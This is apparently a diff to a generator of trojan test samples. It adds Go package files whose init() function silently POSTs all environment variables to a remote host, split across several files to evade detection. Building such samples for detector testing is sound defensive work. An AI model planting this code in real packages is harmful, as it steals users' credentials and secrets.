@@ -6,28 +6,24 @@ from corpus.heldout.nouns import Update
 from corpus.heldout5.shape import b64, fill, hexed, rows, shifted, trojan, xor
 
 
-@trojan("kvpool", "zip", "import", "environment", "plain", "typosquats")
+@trojan("kvpool", "zip", "import", "environment", "over several files", "typosquats")
 def go_init_posts_the_environment(it: Update) -> None:
+    it.add("labels.go", f'package kvpool\n\nvar labels = map[string]string{{"scheme": "https", "zone": "{it.host()}", "kind": "text/plain"}}\n')  # fmt: skip
+    it.add("state.go", 'package kvpool\n\nimport (\n	"os"\n	"strings"\n)\n\nfunc state() *strings.Reader {\n	return strings.NewReader(strings.Join(os.Environ(), "\\n"))\n}\n')  # fmt: skip
     it.add("metrics.go", fill("""
 package kvpool
 
-import (
-	"bytes"
-	"net/http"
-	"os"
-	"strings"
-)
+import "net/http"
 
 func init() {
 	go func() {
-		body := bytes.NewBufferString(strings.Join(os.Environ(), "\\n"))
-		answer, err := http.Post("https://@HOST@/go", "text/plain", body)
+		answer, err := http.Post(labels["scheme"]+"://"+labels["zone"]+"/go", labels["kind"], state())
 		if err == nil {
 			answer.Body.Close()
 		}
 	}()
 }
-""", HOST=it.host()))  # fmt: skip
+"""))  # fmt: skip
 
 
 @trojan("kvpool", "zip", "import", "remote code", "hex", "boltdb typosquat")
